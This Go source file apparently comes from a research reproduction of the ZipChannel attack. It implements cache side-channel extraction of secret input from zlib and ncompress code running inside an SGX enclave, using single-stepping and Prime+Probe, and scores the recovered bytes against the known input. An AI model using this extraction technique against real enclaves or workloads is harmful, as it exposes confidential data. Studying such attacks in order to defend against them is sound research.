package zipchannel

import (
	"fmt"
	"time"

	"github.com/zipchannel/zipchannel/internal/recovery"
	"github.com/zipchannel/zipchannel/internal/sgx"
	"github.com/zipchannel/zipchannel/internal/victims"
)

// This file extends the paper's §V attack to the other two surveyed
// gadgets. §IV-E establishes that zlib's head[ins_h] and ncompress's
// htab[hp] leak the input through the same channel; the paper
// demonstrates the end-to-end extraction only for bzip2. With the
// generalized two-array stepper (sgx.Stepper2) the identical machinery —
// controlled-channel single-stepping, page identification, Prime+Probe
// with CAT and frame selection — extracts their inputs too.

// runStepper2 drives a two-array single-stepping attack and returns, per
// loop iteration, the observed cache-line offset from tableVA
// (recovery.UnknownObservation for ambiguous probes).
func runStepper2(r *rig, st *sgx.Stepper2, tableVA uint64) ([]int64, error) {
	page, ok, err := st.Start()
	if err != nil {
		return nil, fmt.Errorf("zipchannel: start: %w", err)
	}
	var obs []int64
	for ok {
		ps, err := r.pageFor(page)
		if err != nil {
			return nil, err
		}
		curPage := page
		lineOff := recovery.UnknownObservation
		nextPage, done, err := st.Step(
			func() { r.prime(ps) },
			func() {
				if line := r.probeLine(ps); line >= 0 {
					lineVA := curPage + uint64(line*r.c.Config().LineSize)
					lineOff = int64(lineVA) - int64(tableVA)
				} else {
					r.unknownObs.Inc()
				}
				r.iterations.Inc()
				r.publish()
			},
		)
		if err != nil {
			return nil, fmt.Errorf("zipchannel: step: %w", err)
		}
		obs = append(obs, lineOff)
		if done {
			break
		}
		page = nextPage
	}
	return obs, nil
}

// ZlibAttack extracts the input the enclave feeds through the zlib
// INSERT_STRING gadget (Listing 1): each single-stepped iteration leaks
// the cache line of head[ins_h], i.e. the rolling hash ins_h >> 5, which
// the §IV-B computation inverts. With charset knowledge (charsetHigh3 =
// the known top-3 bits pattern, e.g. 0x60 for lowercase ASCII) nearly
// every byte is recovered; without it, 2 bits per byte leak directly.
func ZlibAttack(input []byte, charsetHigh3 byte, haveCharset bool, cfg Config) (*Result, error) {
	cfg = cfg.withDefaults()
	start := time.Now()

	prog := victimProgram(victimKey{gadget: "zlib"}, victims.ZlibInsertString)
	r, err := newRig(prog, input, cfg)
	if err != nil {
		return nil, err
	}
	st := sgx.NewStepper2(r.enc, "window", "head", true /* head is store-only */)
	st.AttachObs(r.reg)
	st.OnTransition = r.injectNoise
	r.dryTransition = st.DryTransition

	head := prog.MustSymbol("head")
	offs, err := runStepper2(r, st, head.Addr)
	if err != nil {
		return nil, err
	}

	// head entries are 2 bytes on a 64-aligned base: the observed line
	// offset is 64*(h>>5), so obs = lineOff/64 recovers h>>5 exactly.
	obsSeq := make([]uint16, len(offs))
	unknown := make([]bool, len(offs))
	for k, off := range offs {
		if off == recovery.UnknownObservation || off < 0 {
			unknown[k] = true
			continue
		}
		obsSeq[k] = uint16(off / 64)
	}
	rec := recovery.RecoverZlib(obsSeq, len(input), charsetHigh3, haveCharset)
	for k, u := range unknown {
		if u && k+1 < len(rec) {
			rec[k+1] = recovery.ZlibKnownBits{} // lost observation: no claim
		}
	}

	res := r.res
	res.Recovered = make([]byte, len(input))
	okBytes := 0
	for i, kb := range rec {
		res.Recovered[i] = kb.Value
		if kb.Mask == 0xff && kb.Value == input[i] {
			okBytes++
		}
	}
	if len(input) > 0 {
		res.ByteAcc = float64(okBytes) / float64(len(input))
	}
	res.BitAcc = recovery.ZlibLeakFraction(rec, input)
	res.Elapsed = time.Since(start)
	r.finish(res)
	return res, nil
}

// lzwGadgetReplay mirrors the asm victim's simplified dictionary rule
// (Listing 2's shape): on a hash hit the entry code is hash-derived, on a
// miss the pair is inserted and ent restarts at c. It implements
// recovery.EntReplayer for the end-to-end attack. (The lzw package's
// Replayer mirrors the full compressor instead.)
type lzwGadgetReplay struct {
	htab map[uint64]uint64
	ent  uint32
}

func newLZWGadgetReplay(first byte) *lzwGadgetReplay {
	return &lzwGadgetReplay{htab: map[uint64]uint64{}, ent: uint32(first)}
}

// Ent implements recovery.EntReplayer.
func (g *lzwGadgetReplay) Ent() uint32 { return g.ent }

// Push implements recovery.EntReplayer.
func (g *lzwGadgetReplay) Push(c byte) {
	hp := (uint64(c) << 9) ^ uint64(g.ent)
	fc := (uint64(g.ent) << 8) | uint64(c)
	if g.htab[hp] == fc {
		g.ent = uint32(hp & 0xffff)
	} else {
		g.htab[hp] = fc
		g.ent = uint32(c)
	}
}

// LZWAttack extracts the input the enclave feeds through the ncompress
// probe gadget (Listing 2): each single-stepped iteration leaks the
// cache line of htab[hp], i.e. hp >> 3, and the §IV-C dictionary replay
// inverts the whole stream (modulo the first byte's low 3 bits, brute
// forced over 8 candidates).
func LZWAttack(input []byte, cfg Config) (*Result, error) {
	cfg = cfg.withDefaults()
	start := time.Now()

	prog := victimProgram(victimKey{gadget: "lzw"}, victims.LZWHashProbe)
	r, err := newRig(prog, input, cfg)
	if err != nil {
		return nil, err
	}
	st := sgx.NewStepper2(r.enc, "inputbuf", "htab", false /* probes are loads */)
	st.AttachObs(r.reg)
	st.OnTransition = r.injectNoise
	r.dryTransition = st.DryTransition

	htab := prog.MustSymbol("htab")
	offs, err := runStepper2(r, st, htab.Addr)
	if err != nil {
		return nil, err
	}

	// htab entries are 8 bytes on a 64-aligned base: the observed line
	// offset is 64*(hp>>3), so obs = lineOff/64 recovers hp>>3 exactly.
	obsSeq := make([]uint64, len(offs))
	for k, off := range offs {
		if off == recovery.UnknownObservation || off < 0 {
			// A lost observation breaks the replay locally; substitute 0
			// and let the accuracy metric account for the damage.
			continue
		}
		obsSeq[k] = uint64(off / 64)
	}
	cands, err := recovery.RecoverLZW(obsSeq, 3, func(first byte) recovery.EntReplayer {
		return newLZWGadgetReplay(first)
	})
	if err != nil {
		return nil, fmt.Errorf("zipchannel: recovery: %w", err)
	}
	best, err := recovery.BestLZW(cands)
	if err != nil {
		return nil, err
	}

	res := r.res
	res.Recovered = best.Plaintext
	okBytes, okBits := 0, 0
	for i := range input {
		var got byte
		if i < len(best.Plaintext) {
			got = best.Plaintext[i]
		}
		if got == input[i] {
			okBytes++
		}
		diff := got ^ input[i]
		for b := 0; b < 8; b++ {
			if diff&(1<<uint(b)) == 0 {
				okBits++
			}
		}
	}
	if len(input) > 0 {
		res.ByteAcc = float64(okBytes) / float64(len(input))
		res.BitAcc = float64(okBits) / float64(len(input)*8)
	}
	res.Elapsed = time.Since(start)
	r.finish(res)
	return res, nil
}
